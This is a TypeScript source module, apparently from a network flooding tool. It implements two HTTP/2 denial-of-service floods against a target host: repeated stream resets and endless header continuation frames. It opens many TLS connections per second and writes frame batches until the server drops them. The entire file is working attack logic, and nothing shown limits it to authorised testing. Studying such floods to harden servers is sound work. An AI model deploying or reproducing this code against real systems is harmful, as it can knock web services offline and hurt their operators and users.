import type { Duplex } from 'node:stream';
import { connectSecure, type Flood, type FloodTarget } from './flood-kinds.js';
import { endlessHeader, OPENING, resetStream, statusRequest } from './http2-frames.js';

/** Connections of HTTP/2 that send such frames until the server ends them. */
export const FRAME_FLOODS = {
  'h2 resets': { perSecond: 50, heldMax: 100, prepare: framesOf(resetStream) },
  'h2 continuations': { perSecond: 50, heldMax: 100, prepare: framesOf(endlessHeader) },
} as const satisfies Record<string, Flood>;

const FRAMES_AT_ONCE = 20;

function framesOf(next: (request: Buffer, index: number) => Buffer): Flood['prepare'] {
  return async (target: FloodTarget) => {
    const request = statusRequest(target.host);
    return (): Duplex => {
      const socket = connectSecure(target, 'h2').resume();
      let index = 0;
      const send = (): void => {
        for (let isTaken = true; isTaken && socket.writable;) {
          const frames = Array.from({ length: FRAMES_AT_ONCE }, () => next(request, index++));
          isTaken = socket.write(Buffer.concat(frames));
        }
      };
      socket.once('secureConnect', () => {
        socket.write(OPENING);
        send();
      });
      return socket.on('drain', send);
    };
  };
}
